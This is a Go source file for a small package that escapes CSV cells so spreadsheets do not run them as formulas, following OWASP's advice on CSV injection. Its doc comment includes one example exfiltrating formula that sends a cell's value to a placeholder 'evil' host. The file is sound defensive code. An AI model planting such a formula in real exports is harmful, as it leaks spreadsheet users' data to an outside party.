// Package csvsafe keeps exported CSV cells from being read as formulas. A spreadsheet
// opening a CSV runs a cell that begins with =, +, - or @ (and, in some, a tab or a
// carriage return) as a formula: a code uploaded as =HYPERLINK("https://evil/?"&A2)
// would act in the marketer's spreadsheet. Such a cell is written with a leading
// apostrophe, which spreadsheets read as "text" and do not show (OWASP's advice on CSV
// injection). Programs reading the export see the apostrophe: they strip a leading ' from
// a cell whose next character is one of these.
package csvsafe

// Cell returns s, or s behind an apostrophe when a spreadsheet would read it as a formula.
func Cell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	return s
}

// Record applies Cell to every field of rec, in place, and returns it.
func Record(rec []string) []string {
	for i, s := range rec {
		rec[i] = Cell(s)
	}
	return rec
}
